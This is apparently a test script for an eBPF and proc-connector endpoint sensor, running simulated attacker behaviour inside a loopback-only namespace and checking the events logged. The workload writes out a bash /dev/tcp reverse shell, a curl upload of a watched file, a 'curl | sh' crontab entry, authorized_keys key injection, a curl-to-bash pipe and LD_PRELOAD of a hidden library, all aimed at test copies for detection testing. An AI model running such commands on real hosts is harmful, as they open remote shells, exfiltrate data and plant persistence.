#!/bin/bash
# Sensor tests: start the sensor (tests/sensor/sensor_probe), run real
# commands inside a network namespace made here (loopback only, no route out)
# against files made here, and check the exact events. Runs the eBPF sensor,
# then the proc-connector fallback on what it can see. Prints one line per
# check and `sensor: P passed, F failed`.
# Nothing touches the host's real files: crontab and authorized_keys are test
# copies under a temporary directory; every listener is on 127.0.0.1 inside
# the namespace.
# usage: tests/sensor/run.sh [path/to/sensor_probe]
set -u
HERE=$(cd "$(dirname "$0")" && pwd)
PROBE=${1:-build/tests/sensor/sensor_probe}
PASS=0
FAIL=0
ok()   { echo "ok   $*"; PASS=$((PASS + 1)); }
bad()  { echo "FAIL $*"; FAIL=$((FAIL + 1)); }
finish() { echo "sensor: $PASS passed, $FAIL failed"; [ "$FAIL" -eq 0 ]; exit $?; }

# unprivileged unit checks first (parsers of /proc, process table, fields)
UNIT=$(dirname "$PROBE")/sensor_unit
if [ -x "$UNIT" ]; then
	"$UNIT" > "${TMPDIR:-/tmp}/sensor-unit.$$" 2>&1
	grep -E '^(ok|FAIL) ' "${TMPDIR:-/tmp}/sensor-unit.$$"
	PASS=$((PASS + $(grep -c '^ok ' "${TMPDIR:-/tmp}/sensor-unit.$$")))
	FAIL=$((FAIL + $(grep -c '^FAIL ' "${TMPDIR:-/tmp}/sensor-unit.$$")))
	rm -f "${TMPDIR:-/tmp}/sensor-unit.$$"
else
	bad "unit binary $UNIT missing (make sensor)"
fi

if [ "$(id -u)" -ne 0 ]; then
	echo "skip: the sensor tests need root (eBPF, proc connector, fanotify, netns)"
	finish
fi
[ -x "$PROBE" ] || { bad "probe binary $PROBE missing (make sensor)"; finish; }

T=$(mktemp -d /tmp/stoat-sensor.XXXXXX)
NS=stoat-sensor-$$
PROBE_PID=
TARGETS=
cleanup() {
	[ -n "$PROBE_PID" ] && kill "$PROBE_PID" 2>/dev/null
	for p in $TARGETS; do kill "$p" 2>/dev/null; done
	ip netns del "$NS" 2>/dev/null
	[ -n "${STOAT_KEEP:-}" ] || rm -rf "$T"
}
trap cleanup EXIT
ip netns add "$NS" || { bad "ip netns add"; finish; }
ip netns exec "$NS" ip link set lo up
N() { ip netns exec "$NS" "$@"; }

# fixtures: a crown-jewel directory, test copies of crontab and authorized_keys
mkdir -p "$T/jewels/sub" "$T/home/.ssh" "$T/spool" "$T/out"
head -c 100000 /dev/urandom > "$T/jewels/spec.bin"
echo "fab design rev C" > "$T/jewels/sub/design.txt"
: > "$T/home/.ssh/authorized_keys"
: > "$T/spool/crontab"
LONGARG=$(head -c 10240 /dev/zero | tr '\0' 'A')

# find_ev FILE KIND COND...: prints matching event lines. COND is Name=value
# (exact) or Name~regex (awk regex).
find_ev() {
	local file=$1 kind=$2
	shift 2
	awk -F'\t' -v kind="EV $kind" -v conds="$(printf '%s\n' "$@")" '
	BEGIN { nc = split(conds, c, "\n"); }
	$1 == kind {
		delete f
		for (i = 2; i <= NF; i++) { p = index($i, "="); f[substr($i, 1, p - 1)] = substr($i, p + 1) }
		for (j = 1; j <= nc; j++) {
			if (c[j] == "") continue
			if ((p = index(c[j], "=")) && (q = index(c[j], "~")) == 0 || (p && p < q)) {
				k = substr(c[j], 1, p - 1); v = substr(c[j], p + 1)
				if (!(k in f) || f[k] != v) next
			} else {
				q = index(c[j], "~"); k = substr(c[j], 1, q - 1); v = substr(c[j], q + 1)
				if (!(k in f) || f[k] !~ v) next
			}
		}
		print
	}' "$file"
}
expect() {  # expect NAME FILE KIND COND...
	local name=$1
	shift
	if [ -n "$(find_ev "$@")" ]; then ok "$name"; else bad "$name"; fi
}
field() {  # field LINE NAME
	printf '%s\n' "$1" | tr '\t' '\n' | sed -n "s/^$2=//p" | head -1
}
wait_file() { for _ in $(seq 100); do [ -s "$1" ] && return 0; sleep 0.1; done; return 1; }

# The probe drops to nobody as stoat watch does, and tries what that must
# refuse: a file in /etc, ptrace of a root process and of one of its own
# user (which the seccomp filter refuses even where the kernel would allow).
sleep 600 & TARGETS="$TARGETS $!"; ROOT_TARGET=$!
setpriv --reuid=nobody --regid=nogroup --clear-groups sleep 600 & TARGETS="$TARGETS $!"; OWN_TARGET=$!
start_probe() {  # start_probe OUT [--fallback]
	local out=$1
	shift
	"$PROBE" "$@" --user nobody --try-ptrace "$ROOT_TARGET" --try-ptrace "$OWN_TARGET" --watch "$T/jewels" --watch "$T/home/.ssh/authorized_keys" --watch "$T/spool/crontab" \
		> "$out" 2> "$out.err" &
	PROBE_PID=$!
	# verifying the programs takes 15 s and more on a loaded machine: wait up to 60 s
	for _ in $(seq 600); do grep -q '^READY' "$out" && return 0; sleep 0.1; done
	return 1
}
stop_probe() {
	kill -TERM "$PROBE_PID" 2>/dev/null
	wait "$PROBE_PID" 2>/dev/null
	PROBE_PID=
}

# After loading the probe is nobody, with only CAP_DAC_READ_SEARCH (2), and
# in the fallback CAP_SYS_PTRACE (19) for /proc's access checks, effective
# and permitted; an empty bounding set; no_new_privs and the seccomp filter are on; and from inside it,
# writing /etc and ptrace of another process both failed.
check_privs() {   # check_privs MODE CAPS OUT
	local st want k bad_keys=""
	st=$(cat "/proc/$PROBE_PID/status")
	for k in Uid Gid; do
		echo "$st" | grep -Eq "^$k:[[:space:]]+65534[[:space:]]+65534[[:space:]]+65534[[:space:]]+65534$" || bad_keys="$bad_keys $k"
	done
	for k in CapEff CapPrm; do
		echo "$st" | grep -q "^$k:[[:space:]]*$2$" || bad_keys="$bad_keys $k"
	done
	for k in CapBnd CapInh CapAmb; do
		echo "$st" | grep -q "^$k:[[:space:]]*0000000000000000$" || bad_keys="$bad_keys $k"
	done
	echo "$st" | grep -q "^NoNewPrivs:[[:space:]]*1$" || bad_keys="$bad_keys NoNewPrivs"
	echo "$st" | grep -q "^Seccomp:[[:space:]]*2$" || bad_keys="$bad_keys Seccomp"
	if [ -z "$bad_keys" ]; then
		ok "$1: runs as nobody with capabilities $2 only, no_new_privs, seccomp"
	else
		bad "$1: privileges after loading:$bad_keys ($(echo "$st" | grep -E '^(Uid|Cap|NoNew|Seccomp)' | tr '\n' ' '))"
	fi
	want="PRIVS etc=EACCES ptrace:$ROOT_TARGET=EPERM ptrace:$OWN_TARGET=EPERM"
	if grep -qx "$want" "$3"; then
		ok "$1: from inside, writing /etc and ptrace of a root and a same-user process fail"
	else
		bad "$1: from inside: $(grep '^PRIVS' "$3") (want $want)"
	fi
}

# The workload: the same commands for both modes.
workload() {
	local tag=$1
	rm -f "$T"/out/* "$T"/*.ready "$T"/*.count
	# 1. curl upload of a watched file to a loopback sink
	N python3 "$HERE/sink.py" 18080 "$T/curl.count" "$T/sink.ready" &
	local sink=$!
	wait_file "$T/sink.ready"
	N curl -s --max-time 8 -H 'Expect:' --data-binary @"$T/jewels/spec.bin" "http://127.0.0.1:18080/up-$tag" > /dev/null
	wait "$sink"
	# 2. staging: tar and base64 of the watched directory
	N tar czf "$T/out/j.tgz" -C "$T" jewels
	N base64 "$T/jewels/spec.bin" > "$T/out/spec.b64"
	# 3. bash /dev/tcp reverse shell to a loopback listener
	N python3 "$HERE/revlisten.py" 14444 "$T/rev.out" "$T/rev.ready" &
	local lis=$!
	wait_file "$T/rev.ready"
	N timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/14444 0>&1' 2>/dev/null
	wait "$lis"
	# 3b. IPv6: bash sends 6 bytes to a listener on [::1]
	N python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("::1", 18081)); s.listen(1); s.settimeout(10); open(sys.argv[1], "w").write("ready\n")
c, _ = s.accept(); c.settimeout(10); n = 0
while True:
    b = c.recv(4096)
    if not b: break
    n += len(b)
open(sys.argv[2], "w").write("%d\n" % n)' "$T/v6.ready" "$T/v6.count" &
	local v6=$!
	wait_file "$T/v6.ready"
	N timeout 10 bash -c 'echo hello > /dev/tcp/::1/18081'
	wait "$v6"
	# 4. persistence on test copies
	N sh -c "echo '* * * * * curl -s http://127.0.0.1/x | sh' >> '$T/spool/crontab'"
	N sh -c "echo 'ssh-ed25519 AAAAC3NzaTEST stoat-test' >> '$T/home/.ssh/authorized_keys'"
	# 5. discovery burst from one script
	printf 'echo $$ > %s/disc.pid\nid\nuname -a\ncat /etc/passwd\nss -tunap\nps aux\n' "$T" > "$T/disc.sh"
	N bash "$T/disc.sh" > /dev/null
	# 6. 10 KiB argv
	N python3 -c 'import time; time.sleep(0.5)' "$LONGARG" END_OF_ARGV
	sleep 0.5
}

# ---------------- eBPF ----------------
EV=$T/ebpf.txt
if ! start_probe "$EV"; then
	bad "ebpf: sensor did not start: $(head -c 300 "$EV.err")"
elif grep -q '^READY fallback' "$EV"; then
	echo "skip: eBPF cannot load here ($(sed -n 's/.*ebpf unavailable: //p' "$EV" | head -c 200)); fallback tests only"
	stop_probe
else
	ok "ebpf: sensor started ($(head -c 40 "$EV" | sed 's/^READY //'))"
	check_privs ebpf 0000000000000004 "$EV"
	workload ebpf
	stop_probe
	SZ=$(stat -c %s "$T/jewels/spec.bin")
	CURL_BYTES=$(cat "$T/curl.count" 2>/dev/null)

	# curl upload
	expect "ebpf: curl exec with argv" "$EV" exec Image~'/curl$' "CommandLine=curl -s --max-time 8 -H Expect: --data-binary @$T/jewels/spec.bin http://127.0.0.1:18080/up-ebpf"
	expect "ebpf: curl opened the watched file" "$EV" open Image~'/curl$' "TargetFilename=$T/jewels/spec.bin" AccessMode=read "WatchedPath=$T/jewels"
	expect "ebpf: curl connect 127.0.0.1:18080" "$EV" connect Image~'/curl$' Initiated=true DestinationIp=127.0.0.1 DestinationPort=18080 SourceIp=127.0.0.1
	if [ -n "$CURL_BYTES" ] && [ "$CURL_BYTES" -gt "$SZ" ]; then
		expect "ebpf: curl close BytesSent=$CURL_BYTES (what the sink got)" "$EV" close Image~'/curl$' DestinationPort=18080 "BytesSent=$CURL_BYTES"
		expect "ebpf: sink accept and close BytesReceived=$CURL_BYTES" "$EV" close Image~'python3' Initiated=false SourcePort=18080 "BytesReceived=$CURL_BYTES" BytesSent=38
		expect "ebpf: curl close BytesReceived=38 (the answer)" "$EV" close Image~'/curl$' DestinationPort=18080 BytesReceived=38
	else
		bad "ebpf: sink did not count the upload (got '${CURL_BYTES}')"
	fi
	expect "ebpf: sink accept event" "$EV" accept Image~'python3' Initiated=false SourcePort=18080 DestinationIp=127.0.0.1

	# staging
	expect "ebpf: tar exec" "$EV" exec Image~'/tar$' "CommandLine=tar czf $T/out/j.tgz -C $T jewels"
	expect "ebpf: tar opened jewels/spec.bin" "$EV" open Image~'/tar$' "TargetFilename=$T/jewels/spec.bin"
	expect "ebpf: tar opened jewels/sub/design.txt" "$EV" open Image~'/tar$' "TargetFilename=$T/jewels/sub/design.txt"
	L=$(find_ev "$EV" exec Image~'/gzip$' | head -1)
	expect "ebpf: gzip's parent (sh -c gzip) is a child of tar" "$EV" exec "ProcessId=$(field "$L" ParentProcessId)" ParentImage~'/tar$' "ProcessGuid=$(field "$L" ParentProcessGuid)"
	expect "ebpf: base64 opened spec.bin" "$EV" open Image~'/base64$' "TargetFilename=$T/jewels/spec.bin" AccessMode=read
	if [ -z "$(find_ev "$EV" open "TargetFilename~^$T/out")" ]; then ok "ebpf: no open events outside watched paths"; else bad "ebpf: open events outside watched paths"; fi

	# reverse shell
	if grep -q REVSHELL_42 "$T/rev.out" 2>/dev/null; then ok "ebpf: reverse shell ran (listener got REVSHELL_42)"; else bad "ebpf: reverse shell did not run"; fi
	expect "ebpf: bash connect to 14444" "$EV" connect Image~'/bash$' DestinationIp=127.0.0.1 DestinationPort=14444 Initiated=true
	expect "ebpf: shell with socket stdio (fds 0,1,2 -> 127.0.0.1:14444)" "$EV" sock_stdio Image~'/bash$' "CommandLine=bash -i" StdioFds=0,1,2 DestinationIp=127.0.0.1 DestinationPort=14444
	expect "ebpf: command run by the reverse shell" "$EV" exec Image~'/sleep$' "CommandLine=/bin/sleep 0.3" ParentCommandLine='bash -i'

	# IPv6
	expect "ebpf: IPv6 connect to [::1]:18081" "$EV" connect Image~'/bash$' DestinationIp=::1 DestinationIsIpv6=true DestinationPort=18081 SourceIp=::1
	expect "ebpf: IPv6 close BytesSent=6 ($(cat "$T/v6.count" 2>/dev/null | tr -d '\n') received)" "$EV" close Image~'/bash$' DestinationIp=::1 DestinationPort=18081 BytesSent=6 BytesReceived=0
	expect "ebpf: IPv6 accept" "$EV" accept SourceIp=::1 SourcePort=18081 Initiated=false

	# persistence on test copies
	expect "ebpf: crontab copy written (append)" "$EV" open "TargetFilename=$T/spool/crontab" AccessMode~'^write.*append'
	expect "ebpf: authorized_keys copy written (append)" "$EV" open "TargetFilename=$T/home/.ssh/authorized_keys" AccessMode~'^write.*append' "WatchedPath=$T/home/.ssh/authorized_keys"

	# discovery burst, with its ancestry
	DP=$(cat "$T/disc.pid" 2>/dev/null)
	expect "ebpf: discovery script exec" "$EV" exec "ProcessId=$DP" "CommandLine=bash $T/disc.sh"
	for c in "id" "uname -a" "cat /etc/passwd" "ss -tunap" "ps aux"; do
		expect "ebpf: discovery '$c' with parent bash $T/disc.sh" "$EV" exec "CommandLine=$c" "ParentProcessId=$DP" "ParentCommandLine=bash $T/disc.sh" ParentImage~'/bash$'
	done
	L=$(find_ev "$EV" exec "CommandLine=bash $T/disc.sh" | head -1)
	GP=$(field "$L" ParentProcessId)
	GPG=$(field "$L" ParentProcessGuid)
	if [ -n "$GP" ] && [ -n "$(find_ev "$EV" fork "ProcessId=$DP" "ParentProcessId=$GP" "ParentProcessGuid=$GPG")" ]; then
		ok "ebpf: ancestry fork $GP -> $DP matches exec ParentProcessGuid"
	else
		bad "ebpf: ancestry fork -> script pid $DP"
	fi
	ID=$(find_ev "$EV" exec "CommandLine=id" "ParentProcessId=$DP" | head -1)
	IDP=$(field "$ID" ProcessId)
	expect "ebpf: exit of id (pid $IDP) with code 0" "$EV" exit "ProcessId=$IDP" ExitCode=0 Image~'/id$'

	# 10 KiB argv, nothing cut
	L=$(find_ev "$EV" exec Image~'python3' "CommandLine~END_OF_ARGV\$" | head -1)
	if [ -n "$L" ] && printf '%s' "$L" | grep -q "$LONGARG END_OF_ARGV" && [ "$(printf '%s' "$L" | sed -n 's/.*\targv_len=\([0-9]*\).*/\1/p')" -gt 10240 ] \
	   && ! printf '%s' "$L" | grep -q ArgvTruncated; then
		ok "ebpf: 10 KiB argv complete (3 parts)"
	else
		bad "ebpf: 10 KiB argv: $(printf '%s' "$L" | cut -c1-200)"
	fi
	ST=$(grep '^STATS' "$EV")
	if printf '%s' "$ST" | grep -q 'lost_total=0'; then ok "ebpf: no event lost ($ST)"; else bad "ebpf: losses: $ST"; fi
fi

# The default file set (no --watch for them), the allow-listed environment
# and pipelines: tests/sensor/persist.sh changes copies of /etc/passwd,
# /etc/cron.d and /root/.bashrc bind-mounted over the real ones in a private
# mount namespace, and a test authorized_keys added with --watch-file.
PS=$T/persist.txt
if grep -q '^READY ebpf' "$EV" 2>/dev/null; then
	P=$T/p
	mkdir -p "$P/home/alice/.ssh"
	"$PROBE" --user nobody --watch-file "$P/home/alice/.ssh/authorized_keys" > "$PS" 2> "$PS.err" &
	PROBE_PID=$!
	for _ in $(seq 600); do grep -q '^READY' "$PS" && break; sleep 0.1; done
	N bash "$HERE/persist.sh" "$P" 18090 18091
	N cat /etc/passwd > /dev/null
	sleep 0.5
	stop_probe
	if [ -f /root/.bashrc ]; then
		expect "defaults: shell redirect into /root/.bashrc (a bind-mounted copy) seen" "$PS" open TargetFilename=/root/.bashrc Image~'/bash$' AccessMode~'^write.*append' WatchedPath=/root/.bashrc
	fi
	expect "defaults: /etc/passwd appended by a shell" "$PS" open TargetFilename=/etc/passwd Image~'/bash$' AccessMode~'^write.*append' WatchedPath=/etc/passwd
	expect "defaults: chmod 0666 /etc/passwd (EventID 1003)" "$PS" file_attr TargetFilename=/etc/passwd FileOperation=chmod Mode=0666 EventID=1003 Image~'/chmod$'
	expect "defaults: cron job created under a temporary name" "$PS" open TargetFilename=/etc/cron.d/.stoat-job.tmp AccessMode~'^write.*create' WatchedPath=/etc/cron.d
	expect "defaults: cron job renamed into place (EventID 11)" "$PS" file_change TargetFilename=/etc/cron.d/stoat-job FileOperation=rename SourceFilename=/etc/cron.d/.stoat-job.tmp EventID=11 Image~'/mv$'
	expect "defaults: cron job deleted (EventID 23)" "$PS" file_delete TargetFilename=/etc/cron.d/stoat-job FileOperation=delete EventID=23 Image~'/rm$'
	expect "defaults: key renamed into authorized_keys by relative paths (--watch-file)" "$PS" file_change "TargetFilename=$P/home/alice/.ssh/authorized_keys" "SourceFilename=$P/home/alice/key.pub" FileOperation=rename
	if [ -z "$(find_ev "$PS" open TargetFilename=/etc/passwd AccessMode=read)" ]; then ok "defaults: reads of /etc/passwd are not reported"; else bad "defaults: reads of /etc/passwd reported"; fi
	expect "env: LD_PRELOAD and PYTHONPATH captured at exec, nothing else" "$PS" exec Image~'/true$' "Environment~^(LD_PRELOAD=$P/.hidden/libstoat.so PYTHONPATH=$P/py|PYTHONPATH=$P/py LD_PRELOAD=$P/.hidden/libstoat.so)\$"
	if grep -q hunter2 "$PS"; then bad "env: a variable outside the allow-list was captured"; else ok "env: a variable outside the allow-list is not captured"; fi
	if grep -q PIPE_RAN "$P/pipe.out" 2>/dev/null; then ok "pipe: curl | bash ran"; else bad "pipe: curl | bash did not run"; fi
	# the link comes on the reader's exec or, when the reader exec'd first, as a pipeline event
	# (by the writer's id: its command line is on its own exec, not repeated on the reader's events)
	CG=$(find_ev "$PS" exec Image~'/curl$' "CommandLine=curl -s http://127.0.0.1:18090/i.sh" | tr '\t' '\n' | sed -n 's/^ProcessGuid=//p' | head -1)
	if [ -n "$CG" ] && [ -n "$(find_ev "$PS" exec Image~'/bash$' StdinFromImage~'/curl$' "StdinFromProcessGuid=$CG")$(find_ev "$PS" pipeline Image~'/bash$' StdinFromImage~'/curl$' "StdinFromProcessGuid=$CG" EventID=1004)" ]; then
		ok "pipe: bash's stdin joined to curl (StdinFromImage, StdinFromProcessGuid)"
	else
		bad "pipe: bash's stdin not joined to curl (curl's guid: '$CG')"
	fi
	if grep -q 'StdinFromCommandLine' "$PS" || grep '^EV pipeline' "$PS" | grep -q 'CommandLine='; then
		bad "pipe: a link repeats a command line (of the writer, or the reader's on a pipeline event)"
	else
		ok "pipe: no link repeats a command line"
	fi
	# the script's own command reads the same pipe, inherited: no second link
	L=$(find_ev "$PS" exec Image~'/id$' "CommandLine=/usr/bin/id -u" ParentImage~'/bash$')
	if [ -n "$L" ] && ! printf '%s' "$L" | grep -q StdinFrom; then
		ok "pipe: a command of the piped script (inherited stdin) is no new reader"
	else
		bad "pipe: id under the piped bash: $(printf '%s' "$L" | cut -c1-200)"
	fi
	if [ -n "$(find_ev "$PS" exec Image~'/nc' StdinFromImage~'/tar$')$(find_ev "$PS" pipeline Image~'/nc' StdinFromImage~'/tar$')" ]; then
		ok "pipe: nc's stdin joined to tar"
	else
		bad "pipe: nc's stdin not joined to tar"
	fi
	ST=$(grep '^STATS' "$PS")
	if printf '%s' "$ST" | grep -q 'lost_total=0'; then ok "defaults: no event lost ($ST)"; else bad "defaults: losses: $ST"; fi
fi

# Losses are still counted once the privileges are gone: a 4 KiB ring
# buffer not read for 3 s while 200 processes start must drop records,
# and the kernel's counters must say so.
LS=$T/loss.txt
if grep -q '^READY ebpf' "$EV" 2>/dev/null; then
	"$PROBE" --user nobody --ringbuf 4 --stall 3 --quiet > "$LS" 2> "$LS.err" &
	PROBE_PID=$!
	for _ in $(seq 600); do grep -q '^READY' "$LS" && break; sleep 0.1; done
	for _ in $(seq 200); do /bin/true "$LONGARG"; done
	sleep 3
	stop_probe
	if grep -Eq '^STATS .*lost_total=[1-9].* ringbuf_full_[a-z_]+=[1-9]' "$LS"; then
		ok "ebpf: kernel losses counted after the drop ($(grep '^STATS' "$LS"))"
	else
		bad "ebpf: no kernel loss counted with a stalled 4 KiB ring: $(grep '^STATS' "$LS") $(head -c 300 "$LS.err")"
	fi
fi

# ---------------- fallback: proc connector + fanotify ----------------
FB=$T/fallback.txt
if ! start_probe "$FB" --fallback; then
	bad "fallback: sensor did not start: $(head -c 300 "$FB.err")"
	finish
fi
ok "fallback: sensor started"
check_privs fallback 0000000000080004 "$FB"
workload fb
stop_probe
# The fallback reads details from /proc after the fact: check what lives long
# enough to be read, and opens (fanotify), not network.
expect "fallback: curl exec with argv" "$FB" exec Image~'/curl$' "CommandLine~^curl -s --max-time 8 .*up-fb\$"
expect "fallback: curl opened spec.bin" "$FB" open "TargetFilename=$T/jewels/spec.bin" Image~'/curl$'
# tar of a small folder may also be gone before /proc is read: the open must
# be there, and name tar whenever it names a program at all
L=$(find_ev "$FB" open "TargetFilename=$T/jewels/sub/design.txt")
if [ -n "$L" ] && { ! printf '%s\n' "$L" | grep -q 'Image=' || printf '%s\n' "$L" | grep -Eq 'Image=[^	]*/tar(	|$)'; }; then
	ok "fallback: tar opened jewels/sub/design.txt"
else
	bad "fallback: tar opened jewels/sub/design.txt: ${L:-no open event}"
fi
# base64 may exit before /proc is read (its Image can be missing): count the opens instead
if [ "$(find_ev "$FB" open "TargetFilename=$T/jewels/spec.bin" | wc -l)" -ge 3 ]; then ok "fallback: spec.bin opened by curl, tar and base64"; else bad "fallback: spec.bin opens"; fi
expect "fallback: crontab copy written" "$FB" open "TargetFilename=$T/spool/crontab" AccessMode=write
expect "fallback: authorized_keys copy written" "$FB" open "TargetFilename=$T/home/.ssh/authorized_keys" AccessMode=write
expect "fallback: reverse shell stdio socket" "$FB" sock_stdio Image~'/bash$' StdioFds=0,1,2 DestinationPort=14444
DP=$(cat "$T/disc.pid" 2>/dev/null)
expect "fallback: discovery script exec" "$FB" exec "ProcessId=$DP" "CommandLine=bash $T/disc.sh"
expect "fallback: 'ps aux' under the script" "$FB" exec "ParentProcessId=$DP" Image~'/ps$'
L=$(find_ev "$FB" exec Image~'python3' "CommandLine~END_OF_ARGV\$" | head -1)
if [ -n "$L" ] && printf '%s' "$L" | grep -q "$LONGARG END_OF_ARGV"; then ok "fallback: 10 KiB argv complete"; else bad "fallback: 10 KiB argv"; fi
expect "fallback: fork events" "$FB" fork "ParentProcessId=$DP"
expect "fallback: exit events" "$FB" exit "ProcessId~^[0-9]+\$"
if [ -z "$(find_ev "$FB" connect)" ]; then ok "fallback: says no network (no connect events)"; else bad "fallback: unexpected connect events"; fi
grep '^STATS' "$FB" | sed 's/^/info fallback /'
finish
